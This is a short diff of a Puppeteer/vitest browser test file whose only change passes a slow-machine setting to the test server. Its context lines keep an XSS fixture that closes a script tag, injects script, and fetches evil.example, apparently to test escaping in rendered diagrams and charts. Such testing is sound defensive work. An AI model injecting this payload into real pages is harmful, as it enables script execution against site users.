@@ -5,6 +5,7 @@ import type { Browser, Page } from 'puppeteer-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { chromiumInstalled, launchChromium } from '../../helpers/chromium.js';
 import { startTestServer, type TestServer } from '../../helpers/server.js';
+import { SLOW_MACHINE } from '../publishing/render-config.js';
 
 const PWN = `window.__pwned = 1; document.title = 'PWNED'; alert(1); fetch('http://evil.example/x')`;
 const CLOSE_SCRIPT = `</script><script>${PWN}</script>`;
@@ -15,7 +16,7 @@ let chromium: Awaited<ReturnType<typeof launchChromium>>;
 let browser: Browser;
 
 beforeAll(async () => {
-  srv = await startTestServer();
+  srv = await startTestServer(SLOW_MACHINE);
   api = srv.as({ bearer: await srv.createKey({ services: ['diagrams', 'charts', 'artifacts'] }) });
   chromium = await launchChromium();
   browser = chromium.browser;
